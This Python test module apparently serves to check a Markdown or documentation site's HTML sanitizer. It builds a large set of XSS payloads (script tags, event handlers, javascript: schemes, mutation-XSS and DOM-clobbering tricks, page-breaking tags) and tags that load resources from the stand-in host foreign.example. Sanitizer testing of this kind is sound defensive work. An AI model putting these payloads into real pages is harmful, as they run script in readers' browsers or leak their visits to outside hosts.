"""Bodies that try to act on readers, put together from what they use and where they put it.

`ran(0)` is what their code calls; FOREIGN is a host that no reader may be made to ask.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

FOREIGN = "foreign.example"
CODE = "ran(0)"

ELEMENTS = (
    f"<script>{CODE}</script>",
    f"<ScRiPt src=//{FOREIGN}/a.js></sCrIpT>",
    f'<img src="missing.png" onerror="{CODE}">',
    f"<img src=missing.png onerror={CODE}//",
    f"<img/src=missing.png/onerror={CODE}>",
    f"<svg onload={CODE}></svg>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{CODE}"><text y="20">a</text></a></svg>',
    f"<svg><foreignObject><body onload={CODE}></foreignObject></svg>",
    f'<svg><style><img src="</style><img src=x onerror={CODE}>"></style></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={CODE}>",
    f'<math href="javascript:{CODE}">a</math>',
    f"<details open ontoggle={CODE}><summary>a</summary></details>",
    f"<video><source src=x onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}></audio>",
    f"<input autofocus onfocus={CODE}>",
    f"<select autofocus onfocus={CODE}></select>",
    f"<body onload={CODE}>",
    f'<iframe srcdoc="<script>parent.{CODE}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CODE}"></iframe>',
    f'<object data="javascript:{CODE}"></object>',
    f'<embed src="javascript:{CODE}">',
    f'<form action="javascript:{CODE}"><button autofocus onfocus="{CODE}">a</button></form>',
    f'<p style="animation: x 1s" onanimationstart={CODE}>a</p><style>@keyframes x {{}}</style>',
    f'<noscript><p title="</noscript><img src=x onerror={CODE}>"></noscript>',
    f"<template><img src=x onerror={CODE}></template>",
    f"<a href=x onmouseover={CODE}>a</a>",
    f"<div popover id=x onbeforetoggle={CODE}>a</div>",
)
PLACES = (
    "{}",
    "Text {} text",
    '<div markdown="1">\n\n{}\n\n</div>',
    "| a | b |\n|---|---|\n| {} | c |",
    "Text[^1].\n\n[^1]: {}",
)

SCHEMES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java&Tab;script&colon;{CODE}",
    f"&#x6A;avascript&#58;{CODE}",
    f"&#1;javascript:{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>".replace("<", "%3C").replace(">", "%3E"),
)
LINKS = (
    "[a]({})",
    "[a][b{n}]\n\n[b{n}]: {}",
    "<{}>",
    "![a]({})",
    '[a](x){{ href="{}" }}',
    '<a href="{}">a</a>',
    '<div markdown="1">[a]({})</div>',
    '<svg><a href="{}"><text y="20">a</text></a></svg>',
)

EVENTS = ("onclick", "onmouseover", "onfocus", "onerror", "ONPOINTERENTER")
CARRIERS = (
    "[a](x){{ {}='{}' tabindex=0 autofocus }}",
    "![a](missing.png){{ {}='{}' }}",
    "## Head {{ {}='{}' }}",
    "Paragraph\n{{: {}='{}' }}",
    "``` {{ .python {}='{}' }}\ncode\n```",
)

TITLES = (
    f'!!! note "<img src=x onerror={CODE}>"\n\n    Text',
    f'??? note "<svg onload={CODE}>"\n\n    Text',
    f'=== "<img src=x onerror={CODE}>"\n\n    Text',
    f'``` python title="<img src=x onerror={CODE}>"\ncode\n```',
    f'``` python title="a&quot; onclick=&quot;{CODE}"\ncode\n```',
    f'``` x"onclick="{CODE}\ncode\n```',
    f'AB here.\n\n*[AB]: "><img src=x onerror={CODE}>',
    f"Term\n:   <img src=x onerror={CODE}>",
    f'[a](x "t&quot; onclick=&quot;{CODE}")',
    f'![a" onerror="{CODE}](missing.png)',
    f'## Head {{ #a"onclick="{CODE} }}',
    f'## Head {{ data-toc-label="<img src=x onerror={CODE}>" }}',
    f"- [ ] <img src=x onerror={CODE}>",
    f"<p title='[@daily] onclick={CODE} '>a</p>",
    f"<p title='[@daily]><img src=x onerror={CODE}>'>a</p>",
    f"<p title='&#27;1&#27; onclick={CODE} '>a</p>",
    f"<p title='Jane Doe onclick={CODE} '>Jane Doe</p>",
    f"<p title='<!-- briefings: latest --><img src=x onerror={CODE}>'>a</p>",
    f"<!--><img src=x onerror={CODE}>-->",
    f"<!-- a --!><img src=x onerror={CODE}>",
)

FETCHERS = (
    "![a](https://{}/a.png)",
    "![a](//{}/a.png)",
    "![a][b]\n\n[b]: https://{}/a.png",
    '<img src="\\\\{}\\a.png">',
    '<img src="/&Tab;/{}/a.png">',
    '<img src="https:///{}/a.png">',
    '<img srcset="x.png 1x, https://{}/a.png 2x" src="x.png">',
    '<picture><source srcset="https://{}/a.png"><img src="x.png"></picture>',
    '<video src="https://{}/a.mp4" poster="https://{}/a.png" autoplay muted></video>',
    '<audio src="https://{}/a.mp3" autoplay></audio>',
    '<video autoplay muted><source src="https://{}/a.mp4"></video>',
    '<p style="background: url(https://{}/a.png)">a</p>',
    "Paragraph\n{{: style='background: url(https://{}/a.png)' }}",
    "<style>@import 'https://{}/a.css';</style>",
    '<link rel="stylesheet" href="https://{}/a.css">',
    '<link rel="prefetch" href="https://{}/a">',
    '<meta http-equiv="refresh" content="0; url=https://{}/">',
    '<iframe src="https://{}/"></iframe>',
    '<object data="https://{}/a.svg"></object>',
    '<embed src="https://{}/a.svg">',
    '<svg width="9" height="9"><image href="https://{}/a.png" width="9" height="9"/></svg>',
    '<svg><use href="https://{}/a.svg#b"/></svg>',
    '<svg><rect width="9" height="9" fill="url(https://{}/a.svg#b)"/></svg>',
    '<svg><filter id="f"><feImage href="https://{}/a.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    '<table background="https://{}/a.png"><tr><td>a</td></tr></table>',
    '<body background="https://{}/a.png">',
    '<input type="image" src="https://{}/a.png">',
    '<pre class="mermaid"><code>graph LR</code></pre><!-- {} -->',
    '<a class="md-source" data-md-component="source" href="https://github.com/{}/a">a</a>',
    '<base href="https://{}/"><img src="a.png">',
)

BREAKERS = (
    "</article></div></div></main></div></body></html>",
    "</div></div></div></div></section></article>",
    "<plaintext>",
    "<textarea>",
    "<xmp>",
    "<title>",
    "<style>",
    "<script>",
    "<!--",
    "<![CDATA[",
    "<?php",
    "<div><section><article><b><i>",
    "<table><tr><td>",
    "<select><option>",
    "<template>",
    "<noscript>",
    "<svg><desc>",
    "<math><annotation-xml>",
    "<details><summary>",
    "<a href=x>",
    "<frameset><frame>",
    "<style>.md-container, .br-sources { display: none }</style>",
    '<div style="position: fixed; inset: 0; background: red; z-index: 9999">a</div>',
    '<p class="md-overlay" style="opacity: 1; width: 100%; height: 100%">a</p>',
    "## __config\n\nText",
    '<div id="__config">{"base": "https://foreign.example/", "features": []}</div>',
    "## Head { #__config }",
    '<img name="querySelector"><img name="getElementById" id="getElementById">',
    '<form name="body"><input name="children"></form>',
    '<label for="__drawer" style="font-size: 90px">a</label>',
    '<dialog open style="width: 100%">a</dialog>',
    '<meta name="viewport" content="width=9999">',
)


def bodies() -> Iterator[str]:
    """Every body, the same in each run.

    What cannot swallow what follows stands in one body with what is like it: opening a page takes
    most of the time.
    """
    yield from (place.format(element) for element, place in product(ELEMENTS, PLACES))
    for link in LINKS:
        yield "\n\n".join(link.format(scheme, n=n) for n, scheme in enumerate(SCHEMES))
    for carrier in CARRIERS:
        yield "\n\n".join(carrier.format(event, CODE) for event in EVENTS)
    yield from TITLES
    yield from (fetcher.format(*[FOREIGN] * 2) for fetcher in FETCHERS)
    yield from BREAKERS
